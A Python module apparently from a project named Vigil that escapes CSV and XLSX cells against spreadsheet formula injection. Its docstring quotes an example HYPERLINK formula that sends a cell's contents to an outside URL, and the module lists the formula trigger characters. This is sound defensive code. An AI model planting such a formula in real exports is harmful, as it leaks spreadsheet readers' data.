"""Cells safe to open in a spreadsheet: every CSV and XLSX Vigil writes goes through here.

A text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
spreadsheet programs as a formula (OWASP "CSV injection"): a name imported as
``=HYPERLINK("http://…?x="&A1,"click")`` would run in the reader's spreadsheet. Such a cell is
written with a leading single quote, the spreadsheets' own "this is text" mark. Numbers (int,
float, Decimal) are data, not formulas, and keep their numeral (``-2`` stays ``-2`` in CSV).
XLSX cells are always text cells, never formulas. ``tests/surface/test_spreadsheet_writers.py``
fails when a module writes CSV or XLSX without this module.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any, TextIO

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def spreadsheet_text(value: Any) -> str:
    """The text of one cell, quoted with a leading ``'`` when a spreadsheet would run it."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return ESCAPE + text
    return text


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`spreadsheet_text`."""

    def __init__(self, handle: TextIO | io.StringIO) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_text(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV document (header, then rows) as text."""
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def xlsx_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]], *, title: str) -> bytes:
    """An XLSX workbook of one sheet whose cells are all text (data type ``s``), never formulas."""
    # openpyxl is imported here, not at the top: every `vigil` command and the URL conf load
    # this module, and only an XLSX export needs the library (0.2 s to import).
    from openpyxl import Workbook  # type: ignore[import-untyped]

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    sheet.append(_text_cells(sheet, header))
    for row in rows:
        sheet.append(_text_cells(sheet, row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _text_cells(sheet: Any, row: Iterable[Any]) -> list[Any]:  # openpyxl's WriteOnlyCell
    from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped]
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # type: ignore[import-untyped]

    cells = []
    for value in row:
        # XML 1.0 cannot hold most control characters: shown as U+FFFD, not a failed export.
        text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", spreadsheet_text(value))
        cell = WriteOnlyCell(sheet, value=text)
        # openpyxl guesses a type from the value ("=…" would become a formula): text, always.
        cell.data_type = "s"
        cells.append(cell)
    return cells
